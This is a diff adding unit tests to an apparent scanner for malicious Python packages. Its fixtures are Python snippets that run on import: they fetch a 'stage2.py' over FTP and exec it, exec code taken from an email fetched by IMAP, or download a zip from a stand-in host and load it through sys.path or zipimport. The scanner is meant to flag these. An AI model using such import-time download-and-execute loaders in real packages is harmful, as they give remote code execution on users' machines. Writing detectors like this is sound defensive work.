@@ -140,6 +140,48 @@ test('a DNS query or a request with a body, made on import to a named host, is a
   assert.equal(ruleOf(called, 'egress-dns-lookup')?.severity, 'low');
   const get = findings('import requests\nrequests.get("https://api.example/version")\n');
   assert.equal(ruleOf(get, 'egress-network-call')?.severity, 'medium');
+  // a mail connection opened on import is there to send mail; a mail client the user calls is a capability
+  const mail = findings(
+    'import smtplib\nm = smtplib.SMTP("smtp.mail.example", 587)\nm.sendmail("a@mail.example", "b@mail.example", "installed")\n',
+  );
+  assert.equal(ruleOf(mail, 'egress-network-call')?.severity, 'high');
+  const client = findings(
+    'import smtplib\ndef send(to, text):\n    smtplib.SMTP("smtp.mail.example").sendmail("me@mail.example", to, text)\n',
+  );
+  assert.equal(ruleOf(client, 'egress-network-call')?.severity, 'low');
+});
+
+test('code run on import that connects out and runs data it computed runs downloaded code (high)', () => {
+  const ftp = findings(
+    'import ftplib, io\nf = ftplib.FTP("ftp.files.example")\nf.login()\nbuf = io.BytesIO()\nf.retrbinary("RETR stage2.py", buf.write)\nexec(buf.getvalue().decode())\n',
+  );
+  assert.equal(ruleOf(ftp, 'download-execute')?.severity, 'high');
+  const mail = findings(
+    'import imaplib, email\nm = imaplib.IMAP4_SSL("imap.mail.example")\n_, d = m.fetch(b"1", "(RFC822)")\nexec(email.message_from_bytes(d[0][1]).get_payload())\n',
+  );
+  assert.equal(ruleOf(mail, 'download-execute')?.severity, 'high');
+  // the same when called, and a package member read and run beside a download, are not
+  const called = findings(
+    'import ftplib, io\ndef load():\n    f = ftplib.FTP("ftp.files.example")\n    buf = io.BytesIO()\n    f.retrbinary("RETR x.py", buf.write)\n    exec(buf.getvalue())\n',
+  );
+  assert.equal(ruleOf(called, 'download-execute'), undefined);
+  const setup = findings(
+    'import urllib.request\nurllib.request.urlretrieve("https://data.example/t.csv", "demo/t.csv")\nexec(open("demo/version.py").read())\n',
+    'setup.py',
+  );
+  assert.equal(ruleOf(setup, 'download-execute'), undefined);
+});
+
+test('a downloaded archive put on the import path or given to zipimport is downloaded code run', () => {
+  for (const load of ['sys.path.insert(0, p)\nimport agent', 'zipimport.zipimporter(p).load_module("agent")']) {
+    const list = findings(
+      `import sys, os, zipimport, urllib.request\np = os.path.join(os.path.expanduser("~"), ".cache", "m.zip")\nurllib.request.urlretrieve("https://dl.example/m.zip", p)\n${load}\n`,
+    );
+    assert.equal(ruleOf(list, 'download-execute')?.severity, 'critical', load);
+  }
+  // a folder of the package itself on the import path is not
+  const own = findings('import sys, os\np = os.path.dirname(__file__)\nsys.path.insert(0, p)\n');
+  assert.equal(ruleOf(own, 'download-execute'), undefined);
 });
 
 test('setup.py running a script the archive does not hold is high; a file given to sys.executable is analysed', async () => {
